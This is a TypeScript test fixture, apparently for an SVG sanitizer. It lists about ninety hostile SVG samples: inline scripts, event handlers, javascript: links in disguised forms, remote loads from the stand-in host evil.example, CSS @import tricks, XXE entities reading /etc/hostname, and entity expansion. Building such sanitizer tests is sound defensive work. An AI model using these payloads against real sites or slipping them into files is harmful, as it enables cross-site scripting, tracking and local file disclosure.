/** Wraps SVG content in a root element. */
export function svg(inside: string, attributes = 'viewBox="0 0 4 3"'): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${inside}</svg>`;
}

const dot = '<rect width="1" height="1"/>';
const xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const html = 'xmlns="http://www.w3.org/1999/xhtml"';
/** Sets a mark if it runs. */
const run = 'window.evil=1;document.title=&apos;evil&apos;';
const away = 'http://evil.example/x';
const withDot = (inside: string, attributes = `viewBox="0 0 4 3" ${xlink}`) =>
  svg(`${inside}${dot}`, attributes);

/** Drawings with content that runs, loads, links away or moves, by a description. */
export const hostileDrawings: Readonly<Record<string, string>> = {
  'a script': withDot(`<script>${run}</script>`),
  'a script with CDATA': withDot(`<script><![CDATA[window.evil=1]]></script>`),
  'a script from elsewhere': withDot(`<script href="${away}.js"/>`),
  'a script from elsewhere by XLink': withDot(`<script xlink:href="${away}.js"/>`),
  'a script of another type': withDot(`<script type="module">${run}</script>`),
  'a script with a prefix': withDot(
    `<s:script xmlns:s="http://www.w3.org/2000/svg">${run}</s:script>`,
  ),
  'a script of HTML': withDot(`<script ${html}>${run}</script>`),
  'a script of HTML with a prefix': withDot(
    `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`,
  ),
  'a script in a script': withDot(`<scr<script/>ipt>`),
  'a script in a group': withDot(`<g><g><script>${run}</script></g></g>`),
  'a script in defs that is used': withDot(
    `<defs><g id="a"><script>${run}</script></g></defs><use href="#a"/>`,
  ),
  'a script in an unknown element': withDot(`<quay><script>${run}</script></quay>`),
  'a script in a title': withDot(`<title><script>${run}</script></title>`),
  'a script in a desc with HTML': withDot(
    `<desc><div ${html}><script>${run}</script></div></desc>`,
  ),
  'a script in capitals': withDot(`<SCRIPT>${run}</SCRIPT>`),
  'a handler of SVG Tiny': withDot(`<handler type="application/ecmascript">${run}</handler>`),
  'a listener of XML events': withDot(
    `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#a"/>`,
  ),
  'an attribute of XML events': withDot(
    `<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load"/>`,
  ),
  'onload on the root': svg(dot, `viewBox="0 0 4 3" onload="${run}"`),
  'onload on a shape': withDot(`<rect onload="${run}"/>`),
  onclick: withDot(`<rect onclick="${run}"/>`),
  'onmouseover on text': withDot(`<text onmouseover="${run}">x</text>`),
  'onerror of a picture': withDot(`<image href="#none" onerror="${run}"/>`),
  'onbegin of an animation': withDot(`<animate onbegin="${run}" attributeName="x" dur="1s"/>`),
  'onfocus with tabindex': withDot(`<rect tabindex="0" onfocus="${run}" autofocus=""/>`),
  'an attribute in mixed case': withDot(`<rect oNlOaD="${run}"/>`),
  'a link that runs': withDot(`<a href="javascript:${run}">${dot}</a>`),
  'a link that runs by XLink': withDot(`<a xlink:href="javascript:${run}">${dot}</a>`),
  'a link that runs, in mixed case and with spaces': withDot(
    `<a href=" JaVa&#x9;ScRiPt:${run}">${dot}</a>`,
  ),
  'a link that leads away': withDot(`<a href="${away}">${dot}</a>`),
  'a link to data': withDot(
    `<a href="data:text/html,&lt;script&gt;evil()&lt;/script&gt;">${dot}</a>`,
  ),
  'a use from elsewhere': withDot(`<use href="${away}.svg#a"/>`),
  'a use from elsewhere by XLink': withDot(`<use xlink:href="${away}.svg#a"/>`),
  'a use from a neighbour': withDot(`<use href="evil.svg#a"/>`),
  'a use of data': withDot(`<use href="data:image/svg+xml;base64,PHN2Zy8+#evil"/>`),
  'a picture from elsewhere': withDot(`<image href="${away}.png" width="1" height="1"/>`),
  'a picture from elsewhere by XLink': withDot(`<image xlink:href="//evil.example/x.png"/>`),
  'a picture from a file': withDot(`<image href="file:///evil"/>`),
  'a picture that is a drawing': withDot(
    `<image href="data:image/svg+xml,&lt;svg onload='evil()'/&gt;"/>`,
  ),
  'a picture of HTML': withDot(`<img ${html} src="${away}.png" onerror="${run}"/>`),
  'feImage from elsewhere': withDot(`<filter id="f"><feImage href="${away}.png"/></filter>`),
  'a gradient from elsewhere': withDot(`<linearGradient id="g" href="${away}.svg#g"/>`),
  'a pattern from elsewhere': withDot(`<pattern id="p" xlink:href="${away}.svg#p"/>`),
  'a text path from elsewhere': withDot(`<text><textPath href="${away}.svg#p">x</textPath></text>`),
  'tref from elsewhere': withDot(`<text><tref xlink:href="${away}.svg#t"/></text>`),
  'a fill from elsewhere': withDot(`<rect fill="url(${away}.svg#g)"/>`),
  'a fill from elsewhere, quoted': withDot(`<rect fill='url( "${away}.svg#g" )'/>`),
  'a filter from elsewhere': withDot(`<rect filter="url(${away}.svg#f)"/>`),
  'a mask from elsewhere': withDot(`<rect mask="url(${away}.svg#m)"/>`),
  'a clip path from elsewhere': withDot(`<rect clip-path="url(${away}.svg#c)"/>`),
  'a marker from elsewhere': withDot(`<path d="M0 0" marker-end="url(${away}.svg#m)"/>`),
  'a cursor from elsewhere': withDot(`<rect cursor="url(${away}.png), auto"/>`),
  'a colour profile': withDot(`<color-profile name="p" xlink:href="${away}.icc"/>`),
  'style with url': withDot(`<rect style="fill:url(${away}.svg#g)"/>`),
  'style with an escape': withDot(`<rect style="background:u\\72l(${away})"/>`),
  'style with image-set': withDot(`<rect style="mask-image:image-set('${away}' 1x)"/>`),
  'style with a property of its own': withDot(`<rect style="--evil:url(${away})"/>`),
  'style with expression': withDot(`<rect style="width:expression(evil())"/>`),
  'style with behavior': withDot(
    `<rect style="behavior:url(#default#evil);-moz-binding:url(${away})"/>`,
  ),
  '@import': withDot(`<style>@import "${away}.css";</style>`),
  '@import with url': withDot(`<style>@import url(${away}.css);</style>`),
  '@import in capitals': withDot(`<style>@IMPORT url(${away}.css);</style>`),
  '@import with an escape': withDot(`<style>@\\69mport "${away}.css";</style>`),
  '@font-face': withDot(
    `<style>@font-face{font-family:Quay;src:url(${away}.woff2)}</style><text font-family="Quay">x</text>`,
  ),
  '@namespace and @charset': withDot(`<style>@charset "x";@namespace evil url(${away});</style>`),
  'a background from elsewhere': withDot(
    `<style>rect{background:url(${away}.png)}svg{background-image:url(${away})}</style>`,
  ),
  'a background by src()': withDot(`<style>svg{background:src("${away}.png")}</style>`),
  'a background in @media': withDot(`<style>@media all{svg{background:url(${away})}}</style>`),
  'content from elsewhere': withDot(`<style>rect::after{content:url(${away})}</style>`),
  'a style that is never closed': withDot(`<style>rect{fill:url(${away}</style>`),
  'a style in CDATA': withDot(`<style><![CDATA[@import url(${away}.css);]]></style>`),
  'a style of HTML': withDot(`<style ${html}>svg{background:url(${away})}</style>`),
  'a style sheet from elsewhere': `<?xml-stylesheet href="${away}.css"?>${withDot('')}`,
  'a style sheet that transforms': `<?xml-stylesheet type="text/xsl" href="${away}.xsl"?>${withDot('')}`,
  'a link to a style sheet': withDot(`<link ${html} rel="stylesheet" href="${away}.css"/>`),
  'HTML in it': withDot(
    `<foreignObject width="9" height="9"><body ${html} onload="${run}"><iframe src="${away}"/></body></foreignObject>`,
  ),
  'a frame of HTML without more': withDot(`<iframe ${html} src="javascript:${run}"/>`),
  'an object of HTML': withDot(`<object ${html} data="${away}"/><embed ${html} src="${away}"/>`),
  'a form of HTML': withDot(
    `<foreignObject><form ${html} action="${away}"><button/></form></foreignObject>`,
  ),
  'a base of HTML': withDot(`<base ${html} href="${away}"/>`),
  'meta refresh of HTML': withDot(`<meta ${html} http-equiv="refresh" content="0;url=${away}"/>`),
  'audio and video': withDot(
    `<audio ${html} src="${away}" autoplay=""/><video ${html} src="${away}"/>`,
  ),
  'set of href': withDot(`<a><set attributeName="href" to="javascript:${run}"/>${dot}</a>`),
  'animate of href': withDot(
    `<a><animate attributeName="xlink:href" values="javascript:${run}"/>${dot}</a>`,
  ),
  'animate of an attribute': withDot(`<rect><animate attributeName="onload" to="${run}"/></rect>`),
  'animateTransform and animateMotion': withDot(
    `<rect><animateTransform attributeName="transform" onend="${run}"/><animateMotion path="M0 0"/></rect>`,
  ),
  discard: withDot(`<discard href="#a" onbegin="${run}"/>`),
  XInclude: withDot(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${away}"/>`),
  'an entity with markup': `<!DOCTYPE svg [<!ENTITY evil "<script>evil()</script>">]>${svg('&evil;')}`,
  'an entity from elsewhere': `<!DOCTYPE svg [<!ENTITY evil SYSTEM "file:///etc/hostname">]>${svg('<text>&evil;</text>')}`,
  'an entity of a parameter': `<!DOCTYPE svg [<!ENTITY % evil SYSTEM "${away}.dtd"> %evil;]>${svg(dot)}`,
  'entities that multiply': `<!DOCTYPE svg [<!ENTITY a "evil"><!ENTITY b "&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
  'an attribute with a default': `<!DOCTYPE svg [<!ATTLIST rect onload CDATA "evil()">]>${svg(dot)}`,
  'an element without a namespace': withDot(`<script xmlns="">${run}</script>`),
  'an attribute that navigates': withDot(`<rect nav-next="url(${away})" focusable="true"/>`),
  'ping and target': withDot(`<a href="#a" ping="${away}" target="_blank">${dot}</a>`),
  'MathML with a link': withDot(
    `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${run}"/><set/>`,
  ),
};
